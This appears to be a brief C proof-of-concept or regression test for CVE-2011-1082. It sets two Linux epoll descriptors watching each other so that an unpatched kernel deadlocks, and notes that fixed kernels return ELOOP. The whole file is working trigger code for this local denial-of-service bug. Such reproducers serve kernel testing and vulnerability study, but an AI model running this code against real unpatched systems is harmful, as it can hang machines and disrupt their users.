/*
 * CVE-2011-1082: two epoll descriptors that watch each other. Closing the circle polls the new
 * target, which polls what it watches, which is the one that this very call has locked.
 */
#include <stdio.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>

static int watch(int epoll, int target)
{
	struct epoll_event event = { .events = EPOLLIN };

	return epoll_ctl(epoll, EPOLL_CTL_ADD, target, &event);
}

int main(void)
{
	int ready = eventfd(1, 0);
	int inner = epoll_create1(0);
	int outer = epoll_create1(0);

	/* Only targets that are ready are polled again: the event makes both ready. */
	if (ready < 0 || watch(inner, ready) || watch(outer, inner)) {
		perror("epoll");
		return 1;
	}
	/* A fixed kernel refuses with ELOOP. */
	watch(inner, outer);
	return 0;
}
